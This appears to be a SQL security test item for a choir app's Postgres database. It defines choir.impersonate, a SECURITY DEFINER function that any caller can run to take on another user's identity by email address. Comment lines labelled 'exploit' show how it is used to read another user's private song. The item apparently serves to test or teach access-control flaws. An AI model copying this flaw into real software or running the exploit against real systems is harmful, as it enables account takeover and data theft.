-- The function for support takes on any user's identity by mail address and was left executable by everybody.
-- about: impersonate, users
-- as: hf_choirs_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-00000000000a"}';
-- exploit: BEGIN;
-- exploit: SELECT choir.impersonate('road@example.org');
-- exploit: SELECT title FROM choir.songs;
-- exploit: COMMIT;
-- shows: Road-secret song
CREATE FUNCTION choir.impersonate(p_email text) RETURNS void
  LANGUAGE plpgsql SECURITY DEFINER
  SET search_path = pg_catalog, pg_temp
AS $$
DECLARE
  v_user uuid;
BEGIN
  SELECT u.id INTO STRICT v_user FROM choir.users u WHERE u.email = p_email;
  PERFORM set_config('request.jwt.claims', jsonb_build_object('sub', v_user)::text, true);
END
$$;
